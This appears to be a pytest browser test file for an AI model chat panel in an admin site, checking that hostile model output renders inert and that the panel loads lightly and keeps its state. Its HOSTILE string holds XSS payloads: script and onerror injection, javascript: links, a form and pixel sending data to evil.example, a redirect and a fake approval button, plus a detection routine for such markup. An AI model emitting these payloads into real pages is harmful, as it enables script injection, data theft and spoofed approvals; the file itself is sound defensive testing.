@@ -1,0 +1,237 @@
+"""What a model says stays text; and what a page pays for the panel."""
+
+import gzip
+from collections.abc import Callable
+from itertools import pairwise
+
+import pytest
+
+from tests.browser.panel import Panel
+from tests.browser.visitor import Visitor
+from tests.model_server import ModelServerProcess
+from tests.model_server.scripts import text
+from tests.servers.app import DemoServer
+
+Visit = Callable[..., Visitor]
+HOSTILE = """\
+<script>window.hurt = 1</script>
+<img src=x onerror="window.hurt = 1">
+<svg/onload=window.hurt=1>
+<iframe src="https://evil.example/frame"></iframe>
+
+![a picture](https://evil.example/pixel.png?leak=1)
+![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
+
+[click me](javascript:window.hurt=1) and [me](data:text/html,<script>1</script>)
+and [me too](vbscript:x) and <javascript:window.hurt=1> and [a][b]
+
+[b]: javascript:window.hurt=1
+
+<style>#aia { display: none !important }</style>
+<form action="https://evil.example/take"><input name="aia-input" autofocus></form>
+<div id="aia-form" class="aia-approval" onclick="window.hurt=1">Approve</div>
+<a href="https://evil.example/" style="position:fixed;inset:0">everywhere</a>
+<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example">
+<link rel=stylesheet href="https://evil.example/x.css">
+
+```html
+</code></pre><script>window.hurt = 1</script>
+```
+
+| `<b onclick=x>` | <img src=x onerror=window.hurt=1> |
+|---|---|
+| [x](javascript:window.hurt=1) | ![y](//evil.example/y.png) |
+
+A [plain link](https://example.org/page) at the end.
+"""
+ODD = """() => {
+  const odd = [];
+  const tags = "script,style,iframe,object,embed,form,input,base,meta,link,img,svg";
+  for (const body of document.querySelectorAll("#aia-log .aia-body, #aia-log .aia-text"))
+    for (const node of body.querySelectorAll("*")) {
+      if (node.matches(tags)) odd.push(node.outerHTML);
+      for (const { name, value } of node.attributes)
+        if (/^on|^style$|^srcdoc$/.test(name) || /^(javascript|data|vbscript):/.test(value))
+          odd.push(`${name}=${value}`);
+    }
+  return odd;
+}"""
+
+
+class TestHostileText:
+    def assert_inert(self, panel: Panel, visitor: Visitor) -> None:
+        assert panel.page.evaluate(ODD) == []
+        assert panel.page.evaluate("window.hurt") is None
+        assert panel.repeated_ids() == []
+        assert panel.page.locator("#aia-form").count() == 1
+        assert visitor.watch.troubles() == []
+
+    @pytest.mark.row("X10")
+    def test_in_an_answer_is_inert(
+        self, visit: Visit, server: DemoServer, model: ModelServerProcess
+    ) -> None:
+        model.script("hostile", [text(HOSTILE, rate=120)])
+        visitor = visit(server)
+        panel = visitor.panel()
+        panel.ask_and_wait("[[script:hostile]]")
+
+        self.assert_inert(panel, visitor)
+        panel.page.reload()
+        self.assert_inert(panel, visitor)
+        for link in panel.log.locator("a").all():
+            href = link.get_attribute("href") or ""
+            assert href.startswith(("https://", "/", "#"))
+
+    def test_in_calls_and_reasoning_is_inert(
+        self, visit: Visit, server: DemoServer, model: ModelServerProcess
+    ) -> None:
+        evil = "<img src=x onerror='window.hurt=1'><script>window.hurt=1</script>"
+        model.script(
+            "hostile-call",
+            [
+                [
+                    {"op": "reasoning", "text": evil},
+                    {
+                        "op": "tool_calls",
+                        "calls": [
+                            {"name": name, "arguments": {"text": evil}}
+                            for name in ("echo", "needs_approval")
+                        ],
+                    },
+                ],
+                [text(evil)],
+            ],
+        )
+        visitor = visit(server)
+        panel = visitor.panel()
+        panel.ask(f"{evil} [[script:hostile-call]]")
+        panel.wait_state("waiting-approval")
+        self.assert_inert(panel, visitor)
+        assert evil in panel.approval.inner_text()
+        panel.deny(evil)
+        panel.wait_done()
+
+        self.assert_inert(panel, visitor)
+        panel.list_conversations()
+        self.assert_inert(panel, visitor)
+
+    def test_never_shows_broken_markdown(
+        self, visit: Visit, server: DemoServer, model: ModelServerProcess
+    ) -> None:
+        """No half link, no lone star is ever seen while the text grows."""
+        words = "See **bold words** and a [link to there](https://example.org/a) now. "
+        model.script("growing", [text(words * 6, rate=60, size=3)])
+        panel = visit(server).panel()
+        panel.ask("[[script:growing]]")
+        seen: list[str] = []
+
+        def is_over() -> bool:
+            seen.extend(entry.text for entry in panel.answers())
+            return bool(seen) and panel.state == "idle"
+
+        panel.wait(is_over, "the end")
+        assert len(set(seen)) > 5
+        assert not [said for said in seen if "**" in said or "](" in said]
+        assert all(len(before) <= len(after) for before, after in pairwise(seen))
+
+
+class TestClosedPanel:
+    @pytest.mark.row("N01")
+    @pytest.mark.parametrize(
+        "path",
+        [
+            "/admin/",
+            "/admin/questionnaires/section/",
+            "/admin/questionnaires/section/add/",
+            "/admin/questionnaires/section/1/change/",
+            "/admin/questionnaires/section/1/history/",
+            "/admin/questionnaires/section/1/delete/",
+            "/admin/password_change/",
+        ],
+    )
+    def test_is_on_every_page(
+        self, visit: Visit, server: DemoServer, path: str
+    ) -> None:
+        tab = visit(server).tab()
+        tab.goto(path)
+
+        assert tab.state == "closed"
+        assert tab.page.locator("#aia-launcher").is_visible()
+
+    def test_loads_one_small_script_and_no_socket(
+        self, visit: Visit, server: DemoServer
+    ) -> None:
+        visitor = visit(server)
+        tab = visitor.tab()
+        sockets: list[str] = []
+        tab.page.on("websocket", lambda socket: sockets.append(socket.url))
+        tab.goto()
+        tab.page.wait_for_timeout(500)
+
+        own = [r for r in visitor.watch.requests if "/ai_assistant/" in r.url]
+        scripts = [r for r in own if r.resource_type == "script"]
+        assert [r.url.rpartition("/")[2].partition(".")[0] for r in scripts] == ["boot"]
+        assert len(own) <= 3
+        assert sockets == []
+        body = scripts[0].response().body()  # type: ignore[union-attr]
+        assert len(gzip.compress(body)) <= 1024
+
+    def test_is_not_where_it_does_not_belong(
+        self, visit: Visit, server: DemoServer
+    ) -> None:
+        tab = visit(server, fresh=True).tab()
+        tab.goto("/admin/questionnaires/section/add/?_popup=1")
+        assert tab.root.count() == 0
+        tab.goto()
+        tab.page.locator("#logout-form button").click()
+        tab.page.wait_for_url("**/logout/")
+        assert tab.root.count() == 0
+        tab.goto("/admin/login/")
+        assert tab.root.count() == 0
+
+    @pytest.mark.row("N02")
+    @pytest.mark.row("H17")
+    def test_shows_that_an_answer_is_under_way(
+        self, visit: Visit, server: DemoServer
+    ) -> None:
+        panel = visit(server).panel()
+        launcher = panel.page.locator("#aia-launcher")
+        panel.ask("[[script:stream tokens=60 rate=20]]")
+        panel.wait_words(3)
+        panel.page.locator("#aia-close").click()
+        assert "An answer is under way." in launcher.inner_text()
+        panel.click_to("Questionnaires")
+        assert "An answer is under way." in launcher.inner_text()
+        panel.open()
+        panel.wait_words(10)
+        panel.page.locator("#aia-close").click()
+
+        panel.wait(
+            lambda: "An answer is under way." not in launcher.inner_text(), "the end"
+        )
+        panel.page.reload()
+        assert "An answer is under way." not in launcher.inner_text()
+
+    @pytest.mark.row("D13")
+    def test_keeps_its_place(self, visit: Visit, server: DemoServer) -> None:
+        panel = visit(server).panel()
+        panel.root.get_by_role("button", name="Float over the page").click()
+        panel.click_to("Questionnaires")
+
+        assert panel.root.get_attribute("data-mode") == "float"
+        panel.root.get_by_role("button", name="Dock at the side").click()
+        panel.page.reload()
+        assert panel.root.get_attribute("data-mode") == "dock"
+
+    @pytest.mark.row("N02")
+    def test_opens_and_closes(self, visit: Visit, server: DemoServer) -> None:
+        tab = visit(server).tab()
+        tab.goto()
+        tab.open()
+        assert tab.state == "idle"
+        tab.page.reload()
+        assert tab.state == "idle"
+        tab.page.locator("#aia-close").click()
+        assert tab.state == "closed"
+        tab.page.reload()
+        assert tab.state == "closed"
